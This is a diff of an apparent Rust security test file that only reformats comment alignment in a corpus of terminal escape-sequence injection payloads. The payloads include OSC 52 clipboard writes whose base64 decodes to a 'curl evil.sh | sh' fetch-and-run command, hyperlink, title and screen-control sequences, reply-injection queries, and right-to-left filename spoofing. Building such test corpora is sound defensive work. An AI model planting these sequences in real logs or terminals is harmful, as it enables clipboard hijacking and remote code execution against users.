@@ -11,17 +11,17 @@ use support::Harness;
 
 /// Payloads an attacker can put in a user agent, path, container name or alert text.
 const CORPUS: &[&str] = &[
-    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",        // OSC 52: write the clipboard
-    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",      // ... with ST
-    "\x1b[2J\x1b[H",                                 // clear screen, cursor home
-    "\x1b]0;pwned\x07",                              // set window title
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",   // OSC 52: write the clipboard
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\", // ... with ST
+    "\x1b[2J\x1b[H",                            // clear screen, cursor home
+    "\x1b]0;pwned\x07",                         // set window title
     "\x1b]8;;http://198.51.100.66/\x1b\\click\x1b]8;;\x1b\\", // hyperlink
-    "\x1bP+q544e\x1b\\",                             // DCS query
-    "\x1b[6n",                                       // cursor position report (reply injection)
-    "\x1b[?1049l",                                   // leave the alternate screen
-    "\u{9b}31m red via C1 CSI",                       // 8-bit CSI
-    "\u{9d}0;title via C1 OSC\u{9c}",                 // 8-bit OSC and ST
-    "\u{85}next line",                                // NEL
+    "\x1bP+q544e\x1b\\",                        // DCS query
+    "\x1b[6n",                                  // cursor position report (reply injection)
+    "\x1b[?1049l",                              // leave the alternate screen
+    "\u{9b}31m red via C1 CSI",                 // 8-bit CSI
+    "\u{9d}0;title via C1 OSC\u{9c}",           // 8-bit OSC and ST
+    "\u{85}next line",                          // NEL
     "nul\0byte",
     "bell\x07",
     "back\x08space",
@@ -29,8 +29,8 @@ const CORPUS: &[&str] = &[
     "line\nfeed",
     "tab\tstop",
     "delete\x7f",
-    "evil\u{202E}gnp.exe",                            // right-to-left override
-    "\u{2066}isolate\u{2069}",                        // isolates
+    "evil\u{202E}gnp.exe",     // right-to-left override
+    "\u{2066}isolate\u{2069}", // isolates
     "\u{200F}rlm \u{200E}lrm \u{061C}alm",
 ];
 
